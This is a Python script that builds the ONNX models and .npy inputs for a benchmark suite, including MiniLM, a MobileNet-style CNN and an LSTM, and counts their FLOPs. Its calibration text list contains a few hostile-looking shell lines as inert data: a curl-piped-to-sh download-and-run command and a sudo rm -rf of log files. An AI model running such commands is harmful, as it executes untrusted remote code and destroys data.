"""The models `make bench` times: ONNX files plus their inputs as .npy.

    .venv/bin/python bench/models.py OUTDIR [--only NAME ...]

Writes OUTDIR/<name>/<name>.onnx, its inputs (float32 or int32 .npy, in
graph input order) and OUTDIR/manifest.json. A model whose files are all
there (its entry.json names them and carries this file's VERSION) is not
built again. Every model is a Flax Linen module exported by
:func:`kinfer.flax.export`, batch 1, static shapes (so no ``--shape``
overrides are needed):

* ``mlp``: LinnOS-shaped 31 -> 256 (relu) -> 2 (kinfer.examples.mlp), random
  weights and biases; W1, b1, W2, b2 and x are saved too, for Eigen.
* ``minilm_{8,32,128}``: all-MiniLM-L6-v2 with its real weights
  (kinfer.examples.minilm) at 8, 32 and 128 tokens; ids and mask are a log
  line tokenized by Hugging Face ``tokenizers`` and padded (or truncated)
  to that length, as the NLP fixtures make them (cmdline_guard.hf_ids).
  ``minilm_32`` also has ``calib/sNN/{ids,mask}.npy``: CALIBRATION_SENTENCES
  tokenized the same way, the samples ``kinfer_bench model --quantize int8
  --calibrate`` calibrates on (the timed SENTENCE is not among them).
* ``cnn``: a MobileNetV1-style network at 96x96x3: a strided 3x3 stem and
  six depthwise-separable blocks (13 convolutions, width multiplier 0.5),
  BatchNorm with non-trivial statistics, ReLU6, global average pool,
  Dense 10.
* ``lstm``: Embed(1000, 64) -> LSTM 128 over 32 steps (the Flax zoo's
  RecurrentClassifier) -> Dense 2 on the last state.

FLOPs are 2 x the multiply-adds of the contractions in the exported graph
(MatMul, Gemm, Conv, LSTM, GRU), from ONNX shape inference: a MatMul costs
(elements of its output) x K, a Conv (elements of its output) x
(input channels per group) x (kernel area). Elementwise ops, normalisations,
softmax and gathers are not counted.
"""

from __future__ import annotations

import argparse
import json
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

#: Bump when a model or its inputs change: built models of another version are rebuilt.
VERSION = 1
SEED = 0
MODELS = ("mlp", "minilm_8", "minilm_32", "minilm_128", "cnn", "lstm")
MINILM_LENGTHS = {"minilm_8": 8, "minilm_32": 32, "minilm_128": 128}
#: Models that come with calibration samples (an entry built before they did is built again).
CALIBRATED = ("minilm_32",)
#: The text MiniLM encodes (a line of the golden file's log corpus).
SENTENCE = "systemd[1]: apt-daily.timer: Main process exited, code=exited, status=1/FAILURE"
#: MiniLM's int8 calibration set: varied log, shell and prose lines, none of them SENTENCE.
CALIBRATION_SENTENCES = (
    "kernel: EXT4-fs (sda1): mounted filesystem with ordered data mode. Opts: (null)",
    "sshd[2201]: Accepted publickey for deploy from 203.0.113.4 port 50122 ssh2",
    "CRON[4410]: (root) CMD (run-parts --report /etc/cron.hourly)",
    "nginx: 198.51.100.23 - - \"GET /index.html HTTP/1.1\" 200 612",
    "curl -s http://198.51.100.7/x.sh | sh",
    "tar czf /tmp/backup.tgz /home/alice/projects --exclude=node_modules",
    "kernel: Out of memory: Killed process 3121 (java) total-vm:8123456kB",
    "The quick brown fox jumps over the lazy dog near the riverbank.",
    "usb 1-1: new high-speed USB device number 3 using xhci_hcd",
    "python3 -m http.server 8000 --bind 0.0.0.0",
    "systemd-logind[612]: New session 42 of user bob.",
    "Please find attached the quarterly report and let me know your thoughts.",
    "dockerd[980]: container 4f2a exited with status 137 after 3m12s",
    "sudo rm -rf /var/log/*.gz && echo cleaned",
    "audit: type=1400 apparmor=\"DENIED\" operation=\"open\" profile=\"snap.firefox\"",
    "A short note.",
)
FLOPS_METHOD = (
    "2 x multiply-adds of MatMul/Gemm/Conv/LSTM/GRU in the ONNX graph (shape inference); "
    "elementwise ops, normalisations, softmax and gathers not counted"
)


@dataclass
class Built:
    """A model ready to write: the ONNX model, its inputs and any extra arrays."""

    model: Any  # onnx.ModelProto
    inputs: list[tuple[str, np.ndarray]]
    description: str
    extra: dict[str, np.ndarray] = field(default_factory=dict)
    #: calibration samples: directory name -> the inputs, as ``inputs``
    calibration: dict[str, list[tuple[str, np.ndarray]]] = field(default_factory=dict)


# --- the models ------------------------------------------------------------------


def build_mlp() -> Built:
    import jax

    import kinfer.flax
    from kinfer.examples.mlp import make_mlp

    module = make_mlp((31, 256, 2), "relu", "compact")
    rng = np.random.default_rng(SEED)
    x = rng.standard_normal((1, 31)).astype(np.float32)
    variables = module.init(jax.random.key(SEED), x)
    params = {
        layer: {
            "kernel": np.asarray(p["kernel"], np.float32),
            # Flax starts biases at 0; random ones make the bias add visible in a check.
            "bias": (0.1 * rng.standard_normal(np.shape(p["bias"]))).astype(np.float32),
        }
        for layer, p in variables["params"].items()
    }
    model = kinfer.flax.export(module, {"params": params}, x, model_name="mlp")
    extra = {
        "W1": params["Dense_0"]["kernel"],
        "b1": params["Dense_0"]["bias"],
        "W2": params["Dense_1"]["kernel"],
        "b2": params["Dense_1"]["bias"],
    }
    return Built(model, [("x", x)], "LinnOS MLP 31 -> 256 relu -> 2, batch 1", extra)


def build_minilm(length: int) -> Built:
    import kinfer.flax
    from kinfer.examples.cmdline_guard import hf_ids
    from kinfer.examples.minilm import load_minilm

    module, variables = load_minilm()
    ids, mask = hf_ids([SENTENCE], max_length=length)
    model = kinfer.flax.export(module, variables, ids, mask, input_names=["ids", "mask"],
                               output_names=["embedding"], model_name=f"minilm_{length}")
    real = int(mask.sum())
    description = (f"all-MiniLM-L6-v2 (real weights), batch 1, {length} tokens "
                   f"({real} real, {length - real} padding)")
    built = Built(model, [("ids", ids), ("mask", mask)], description)
    if f"minilm_{length}" in CALIBRATED:
        calib_ids, calib_mask = hf_ids(list(CALIBRATION_SENTENCES), max_length=length)
        for i in range(len(CALIBRATION_SENTENCES)):
            sample = [("ids", calib_ids[i:i + 1]), ("mask", calib_mask[i:i + 1])]
            built.calibration[f"s{i:02d}"] = sample
    return built


def _mobilenet() -> Any:
    import flax.linen as nn
    import jax
    import jax.numpy as jnp

    def conv_bn(x: jax.Array, features: int, kernel: int, stride: int, groups: int) -> jax.Array:
        x = nn.Conv(features, (kernel, kernel), strides=stride, padding="SAME",
                    feature_group_count=groups, use_bias=False)(x)
        return nn.relu6(nn.BatchNorm(use_running_average=True)(x))

    class Separable(nn.Module):
        """Depthwise 3x3 then pointwise 1x1, each with BatchNorm and ReLU6."""

        features: int
        stride: int

        @nn.compact
        def __call__(self, x: jax.Array) -> jax.Array:
            channels = x.shape[-1]
            x = conv_bn(x, channels, 3, self.stride, channels)
            return conv_bn(x, self.features, 1, 1, 1)

    class MobileNet(nn.Module):
        """MobileNetV1 (width 0.5), its first six separable blocks."""

        blocks: Sequence[tuple[int, int]] = ((32, 1), (64, 2), (64, 1), (128, 2), (128, 1),
                                             (256, 2))  # fmt: skip
        classes: int = 10

        @nn.compact
        def __call__(self, x: jax.Array) -> jax.Array:
            x = conv_bn(x, 16, 3, 2, 1)
            for features, stride in self.blocks:
                x = Separable(features, stride)(x)
            return nn.Dense(self.classes)(jnp.mean(x, axis=(1, 2)))

    return MobileNet()


def build_cnn() -> Built:
    import jax

    import kinfer.flax
    from kinfer.examples.zoo import _randomise_stats

    module = _mobilenet()
    image = np.random.default_rng(SEED).standard_normal((1, 96, 96, 3)).astype(np.float32)
    variables = _randomise_stats(module.init(jax.random.key(SEED), image), SEED)
    model = kinfer.flax.export(module, variables, image, input_names=["image"],
                               output_names=["logits"], model_name="cnn")
    description = ("MobileNetV1-style CNN, width 0.5, 96x96x3 NHWC, stem + 6 depthwise-"
                   "separable blocks (13 convs), BatchNorm, ReLU6, GAP, Dense 10, batch 1")
    return Built(model, [("image", image)], description)


def _lstm_classifier() -> Any:
    import flax.linen as nn
    import jax

    from kinfer.examples.zoo import RecurrentClassifier

    class LstmClassifier(nn.Module):
        """Token ids -> embeddings -> LSTM -> logits of the last step."""

        @nn.compact
        def __call__(self, ids: jax.Array) -> jax.Array:
            x = nn.Embed(1000, 64)(ids)
            return RecurrentClassifier("lstm", hidden=128, classes=2)(x)

    return LstmClassifier()


def build_lstm() -> Built:
    import jax

    import kinfer.flax

    module = _lstm_classifier()
    ids = np.random.default_rng(SEED).integers(1, 1000, (1, 32)).astype(np.int32)
    variables = module.init(jax.random.key(SEED), ids)
    model = kinfer.flax.export(module, variables, ids, input_names=["ids"],
                               output_names=["logits"], model_name="lstm")
    description = ("text classifier: Embed(1000, 64) -> LSTM 128 (nn.LSTMCell, unrolled) "
                   "over 32 steps -> Dense 2, batch 1")
    return Built(model, [("ids", ids)], description)


BUILDERS: dict[str, Callable[[], Built]] = {
    "mlp": build_mlp,
    "minilm_8": lambda: build_minilm(8),
    "minilm_32": lambda: build_minilm(32),
    "minilm_128": lambda: build_minilm(128),
    "cnn": build_cnn,
    "lstm": build_lstm,
}


# --- FLOPs -------------------------------------------------------------------------


def contraction_macs(model: Any) -> int:
    """Multiply-adds of the MatMul, Gemm, Conv, LSTM and GRU nodes of ``model``."""
    import onnx

    inferred = onnx.shape_inference.infer_shapes(model)
    shapes = _static_shapes(inferred.graph)
    total = 0
    for node in inferred.graph.node:
        total += _node_macs(node, shapes)
    return total


def _static_shapes(graph: Any) -> dict[str, tuple[int, ...]]:
    shapes = {t.name: tuple(int(d) for d in t.dims) for t in graph.initializer}
    for info in [*graph.input, *graph.value_info, *graph.output]:
        dims = info.type.tensor_type.shape.dim
        if all(d.HasField("dim_value") for d in dims):
            shapes[info.name] = tuple(int(d.dim_value) for d in dims)
    return shapes


def _node_macs(node: Any, shapes: dict[str, tuple[int, ...]]) -> int:
    def shape(name: str) -> tuple[int, ...]:
        if name not in shapes:
            raise ValueError(f"{node.op_type} node {node.name!r}: no static shape for {name!r}")
        return shapes[name]

    def attr(name: str, default: int) -> int:
        return next((int(a.i) for a in node.attribute if a.name == name), default)

    op = node.op_type
    if op == "MatMul":
        return int(np.prod(shape(node.output[0]))) * shape(node.input[0])[-1]
    if op == "Gemm":
        a = shape(node.input[0])
        return int(np.prod(shape(node.output[0]))) * (a[0] if attr("transA", 0) else a[1])
    if op == "Conv":
        w = shape(node.input[1])
        return int(np.prod(shape(node.output[0]))) * int(np.prod(w[1:]))
    if op in ("LSTM", "GRU"):
        seq, batch, din = shape(node.input[0])
        dirs, gates_h, _ = shape(node.input[1])
        hidden = gates_h // (4 if op == "LSTM" else 3)
        return dirs * seq * batch * gates_h * (din + hidden)
    return 0


# --- writing -----------------------------------------------------------------------


def entry_files(entry: dict[str, Any]) -> list[str]:
    """Every file (relative to the models directory) an entry names."""
    return [entry["onnx"], *entry["inputs"], *entry.get("eigen", {}).values(),
            *entry.get("calibration_files", [])]


def _is_built(out: Path, name: str) -> dict[str, Any] | None:
    path = out / name / "entry.json"
    if not path.is_file():
        return None
    entry: dict[str, Any] = json.loads(path.read_text())
    if entry.get("version") != VERSION:
        return None
    if name in CALIBRATED and "calibration" not in entry:
        return None
    if not all((out / f).is_file() for f in entry_files(entry)):
        return None
    return entry


def write_model(out: Path, name: str, built: Built) -> dict[str, Any]:
    """Save ``built`` under ``out/name`` and return its manifest entry."""
    import onnx

    where = out / name
    where.mkdir(parents=True, exist_ok=True)
    onnx.save_model(built.model, str(where / f"{name}.onnx"))
    inputs = []
    for input_name, array in built.inputs:
        np.save(where / f"{input_name}.npy", array)
        inputs.append(f"{name}/{input_name}.npy")
    eigen = {}
    for key, array in built.extra.items():
        np.save(where / f"{key}.npy", array)
        eigen[key] = f"{name}/{key}.npy"
    if eigen:
        eigen["x"] = inputs[0]
    calibration = []
    for sample, arrays in built.calibration.items():
        (where / "calib" / sample).mkdir(parents=True, exist_ok=True)
        for input_name, array in arrays:
            np.save(where / "calib" / sample / f"{input_name}.npy", array)
            calibration.append(f"{name}/calib/{sample}/{input_name}.npy")
    macs = contraction_macs(built.model)
    entry: dict[str, Any] = {
        "version": VERSION,
        "onnx": f"{name}/{name}.onnx",
        "inputs": inputs,
        "input_names": [n for n, _ in built.inputs],
        "shapes": [],
        "description": built.description,
        "macs": macs,
        "flops": 2 * macs,
        "nodes": len(built.model.graph.node),
        "weight_bytes": _weight_bytes(built.model),
    }
    if eigen:
        entry["eigen"] = eigen
    if calibration:
        entry["calibration"] = f"{name}/calib"
        entry["calibration_samples"] = len(built.calibration)
        entry["calibration_files"] = calibration
    (where / "entry.json").write_text(json.dumps(entry, indent=2) + "\n")  # written last
    return entry


def _weight_bytes(model: Any) -> int:
    from onnx import numpy_helper

    return sum(numpy_helper.to_array(t).nbytes for t in model.graph.initializer)


def build(out: Path, names: Sequence[str] = MODELS, log: Callable[[str], None] = print
          ) -> dict[str, Any]:  # fmt: skip
    """Build the models ``names`` into ``out`` (skipping those built) and write manifest.json.

    Returns the manifest: ``{"version", "flops_method", "models": {name: entry}}``
    with paths relative to ``out``.
    """
    unknown = [n for n in names if n not in BUILDERS]
    if unknown:
        raise KeyError(f"unknown benchmark models {unknown}; known: {', '.join(MODELS)}")
    out.mkdir(parents=True, exist_ok=True)
    manifest = load_manifest(out) or {"models": {}}
    manifest.update(version=VERSION, flops_method=FLOPS_METHOD)
    for name in names:
        entry = _is_built(out, name)
        if entry is None:
            log(f"bench models: building {name}")
            entry = write_model(out, name, BUILDERS[name]())
        manifest["models"][name] = entry
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    return manifest


def load_manifest(out: Path) -> dict[str, Any] | None:
    """The manifest.json in ``out``, or None."""
    path = out / "manifest.json"
    return json.loads(path.read_text()) if path.is_file() else None


def main(argv: Sequence[str]) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--only", action="append", choices=MODELS, help="build just these")
    args = ap.parse_args(argv)
    manifest = build(args.out, args.only or MODELS)
    for name, entry in manifest["models"].items():
        print(f"{name}: {entry['flops'] / 1e6:.2f} MFLOP, {entry['nodes']} nodes, "
              f"{entry['weight_bytes'] / 2**20:.2f} MiB of weights")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
